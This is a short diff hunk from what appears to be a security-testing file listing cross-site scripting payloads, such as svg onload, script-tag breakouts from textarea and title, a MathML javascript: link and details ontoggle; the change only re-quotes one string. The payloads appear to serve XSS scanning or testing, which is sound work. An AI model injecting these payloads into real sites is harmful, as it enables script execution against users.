@@ -20,7 +20,7 @@ PAYLOADS = [
     "'><svg/onload=alert(1)>",
     "</textarea><script>alert(1)</script>",
     "</title><script>alert(1)</script>",
-    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
     "<details open ontoggle=alert(1)>",
     "<!--<script>alert(1)</script>-->",
     "<style>body{background:url(javascript:alert(1))}</style>",
